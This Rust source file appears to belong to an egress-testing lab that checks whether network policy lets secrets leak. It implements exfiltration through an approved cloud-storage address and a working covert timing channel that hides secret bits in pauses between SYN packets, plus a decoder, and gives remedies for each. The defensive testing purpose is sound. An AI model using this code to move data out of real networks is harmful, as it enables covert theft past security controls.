//! What an approved place is told, which the filter is there to let through.

use std::{
    io,
    sync::{Mutex, PoisonError},
    thread,
    time::Duration,
};

use crate::lab::{
    battery::{
        Aim, Channel,
        collector::arrival,
        field::Field,
        frame::{Packet, SYN, TCP},
        ledger::{Found, Pieces},
    },
    channels::plain,
    probe::Family,
};

/// Bytes that are told by pauses: to tell all of the secret would take half an hour.
const SAMPLE: usize = 8;
/// How often, for a busy machine makes pauses of its own.
const TIMES: usize = 2;
/// A one; a zero is hardly any.
const PAUSE: Duration = Duration::from_millis(4);
/// The first half of each sequence number; the second counts bits.
const OURS: u16 = 0x7469;
const PORT: u16 = 40_011;

pub(super) const CHANNELS: &[Channel] = &[
    Channel {
        name: "approved-account",
        how: "an ordinary connection to an approved address, where anybody can rent room",
        seen_in: "rclone, azcopy, aws s3 cp: a storage account of one's own in an approved service",
        aim: Aim::OutOfScope {
            why: "the policy approves the address for everybody behind it; whose account it is \
                  is said inside TLS",
            remedy: "private endpoints, service endpoint policies, and rules as narrow as \
                     possible: one name instead of a tag or a wildcard",
        },
        carry: |field, pieces| {
            let (address, knock) = field.side(Family::V4)?.approved()?;
            plain::tcp(address, knock.port().unwrap_or(443), pieces)
        },
        read: None,
    },
    Channel {
        name: "timing",
        how: "pauses between segments that may pass; eight bytes, as a sample",
        seen_in: "Cabuk et al. 2004, IP Covert Timing Channels",
        aim: Aim::OutOfScope {
            why: "when something permitted is sent is the sender's choice; some hundred bits a \
                  second that nobody can tell from work",
            remedy: "rules as narrow as possible, so that who could listen is somebody you trust",
        },
        carry: pauses,
        read: Some(read),
    },
];

/// A segment, then for each bit a pause and another.
fn pauses(field: &Field, pieces: &Pieces) -> io::Result<()> {
    let side = field.side(Family::V4)?;
    let (to, knock) = side.approved()?;
    let ends = ((side.local, PORT), (to, knock.port().unwrap_or(443)));
    let wire = field.wire()?;
    let tick = |number: u16| {
        let sequence = u32::from(OURS) << 16 | u32::from(number);
        wire.send(&field.frame(&Packet::tcp(ends.0, ends.1, (sequence, 0), SYN, &[])))
    };
    for _ in 0..TIMES {
        tick(0)?;
        let bytes = pieces.parts(1).take(SAMPLE).flat_map(|(_, byte)| byte);
        let bits = bytes.flat_map(|byte| (0..8).rev().map(move |bit| byte >> bit & 1 == 1));
        for (number, bit) in (1..).zip(bits) {
            if bit {
                thread::sleep(PAUSE);
            }
            tick(number)?;
        }
    }
    Ok(())
}

/// When the last segment came, which one it was, and the bits of the byte so far.
static LAST: Mutex<Option<(Duration, u16, u8)>> = Mutex::new(None);

fn read(frame: &[u8]) -> Option<Found> {
    let packet = frame.get(14..14 + 40)?;
    let ours = packet[0] == 0x45
        && packet[9] == TCP
        && packet[20..22] == PORT.to_be_bytes()
        && packet[24..26] == OURS.to_be_bytes()
        // The kernel refuses what comes back, with the next number.
        && packet[33] == SYN;
    if !ours {
        return None;
    }
    let now = arrival();
    let number = u16::from_be_bytes([packet[26], packet[27]]);
    let mut last = LAST.lock().unwrap_or_else(PoisonError::into_inner);
    let bits = match *last {
        Some((before, previous, bits)) if number == previous + 1 => {
            bits << 1 | u8::from(now.saturating_sub(before) > PAUSE / 2)
        }
        _ => 0,
    };
    *last = Some((now, number, bits));
    (number > 0 && number.is_multiple_of(8)).then(|| Found::Part {
        offset: usize::from(number / 8 - 1),
        bytes: vec![bits],
    })
}
